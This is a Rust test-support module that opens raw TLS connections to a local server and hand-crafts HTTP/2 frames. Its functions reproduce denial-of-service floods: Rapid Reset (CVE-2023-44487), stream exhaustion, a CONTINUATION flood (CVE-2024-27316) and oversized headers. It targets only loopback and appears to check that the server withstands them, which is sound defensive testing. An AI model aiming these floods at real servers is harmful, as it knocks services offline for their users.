//! Connections that speak as nobody should: TLS with any certificate or none, then bytes to one's own taste.

use std::{net::SocketAddr, sync::Arc};

use rustls::pki_types::ServerName;
use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _, ReadHalf, WriteHalf},
    net::{TcpSocket, TcpStream},
};
use tokio_rustls::{TlsConnector, client::TlsStream};

/// What an HTTP/2 connection opens with, and an empty SETTINGS frame (RFC 9113, 3.4).
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const GOAWAY: u8 = 7;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
/// GET, https, `/v1/studies`, `localhost`, without any compression (RFC 7541, 6).
const BLOCK: &[u8] = b"\x82\x87\x04\x0b/v1/studies\x01\x09localhost";

/// A way to the aggregator.
#[derive(Clone)]
pub struct Way {
    tls: Arc<rustls::ClientConfig>,
    port: u16,
    /// The last part of the address of loopback that it comes from.
    from: u8,
}

/// How the server ended it.
#[derive(PartialEq, Eq, Debug, Default)]
pub struct Ending {
    /// Streams that it refused.
    pub resets: usize,
    /// The code of its GOAWAY (RFC 9113, 7), if there was one.
    pub goaway: Option<u32>,
}

impl Way {
    pub fn new(tls: &rustls::ClientConfig, alpn: &str, port: u16, from: u8) -> Self {
        let mut tls = tls.clone();
        tls.alpn_protocols = vec![alpn.as_bytes().to_vec()];
        Self {
            tls: Arc::new(tls),
            port,
            from,
        }
    }

    /// A bare connection.
    pub async fn tcp(&self) -> std::io::Result<TcpStream> {
        let socket = TcpSocket::new_v4()?;
        socket.bind(SocketAddr::from(([127, 0, 0, self.from], 0)))?;
        socket.connect(SocketAddr::from(([127, 0, 0, 1], self.port))).await
    }

    /// A connection with hands shaken.
    pub async fn shaken(&self) -> std::io::Result<TlsStream<TcpStream>> {
        let name = ServerName::try_from("localhost").unwrap();
        TlsConnector::from(Arc::clone(&self.tls))
            .connect(name, self.tcp().await?)
            .await
    }

    /// One HTTP/1.1 exchange in any words; what came back, as text. The server may answer before it heard everything.
    pub async fn say(&self, words: &[u8]) -> String {
        let (mut from, mut to) = tokio::io::split(self.shaken().await.unwrap());
        let said = words.to_vec();
        let speak = tokio::spawn(async move {
            let _ = to.write_all(&said).await;
            let _ = to.flush().await;
            to
        });
        let mut heard = Vec::new();
        let _ = from.read_to_end(&mut heard).await;
        speak.abort();
        String::from_utf8_lossy(&heard).into_owned()
    }

    /// Speaks HTTP/2 as `speak` does, until the server ends the connection.
    pub async fn frames<F: Future<Output = ()> + Send + 'static>(
        &self,
        speak: impl FnOnce(WriteHalf<TlsStream<TcpStream>>) -> F,
    ) -> Ending {
        let (from, mut to) = tokio::io::split(self.shaken().await.unwrap());
        to.write_all(PREFACE).await.unwrap();
        let speak = tokio::spawn(speak(to));
        let ending = until_end(from).await;
        speak.abort();
        ending
    }
}

async fn until_end(mut from: ReadHalf<TlsStream<TcpStream>>) -> Ending {
    let mut ending = Ending::default();
    let mut head = [0; 9];
    while from.read_exact(&mut head).await.is_ok() {
        let mut body = vec![0; usize::from(head[0]) << 16 | usize::from(head[1]) << 8 | usize::from(head[2])];
        if from.read_exact(&mut body).await.is_err() {
            break;
        }
        match head[3] {
            RST_STREAM => ending.resets += 1,
            GOAWAY if body.len() >= 8 => {
                ending.goaway = Some(u32::from_be_bytes([body[4], body[5], body[6], body[7]]));
            }
            _ => {}
        }
    }
    ending
}

fn frame(kind: u8, flags: u8, stream: u32, body: &[u8]) -> Vec<u8> {
    let mut frame = (body.len() as u32).to_be_bytes()[1..].to_vec();
    frame.extend([kind, flags]);
    frame.extend(stream.to_be_bytes());
    frame.extend(body);
    frame
}

/// Client streams have odd numbers.
fn streams(count: u32) -> impl Iterator<Item = u32> {
    (0..count).map(|number| 2 * number + 1)
}

/// Requests that are begun and cancelled at once (CVE-2023-44487).
pub async fn rapid_resets(mut to: WriteHalf<TlsStream<TcpStream>>) {
    let mut all = Vec::new();
    for stream in streams(20_000) {
        all.extend(frame(HEADERS, END_STREAM | END_HEADERS, stream, BLOCK));
        all.extend(frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
    }
    let _ = to.write_all(&all).await;
    std::future::pending::<()>().await;
}

/// Requests that are begun and never ended, many more than the server allows.
pub async fn many_streams(mut to: WriteHalf<TlsStream<TcpStream>>) {
    for stream in streams(20_000) {
        if to.write_all(&frame(HEADERS, END_HEADERS, stream, BLOCK)).await.is_err() {
            break;
        }
    }
    std::future::pending::<()>().await;
}

/// One head that goes on and on (CVE-2024-27316).
pub async fn continuations(mut to: WriteHalf<TlsStream<TcpStream>>) {
    let mut all = frame(HEADERS, END_STREAM, 1, BLOCK);
    // A header of its own each time: never indexed, `x`, `y`.
    for _ in 0..200_000 {
        all.extend(frame(CONTINUATION, 0, 1, b"\x10\x01x\x01y"));
    }
    let _ = to.write_all(&all).await;
    std::future::pending::<()>().await;
}

/// Few frames with a head far larger than the server reads.
pub async fn huge_head(mut to: WriteHalf<TlsStream<TcpStream>>) {
    // A name of one letter and a value of 16,000: 7-bit prefix, then 15,873 in base 128.
    let mut value = b"\x10\x01x\x7f\x81\x7c".to_vec();
    value.extend([b'y'; 16_000]);
    let mut all = frame(HEADERS, END_STREAM, 1, BLOCK);
    for _ in 0..200 {
        all.extend(frame(CONTINUATION, 0, 1, &value));
    }
    let _ = to.write_all(&all).await;
    std::future::pending::<()>().await;
}
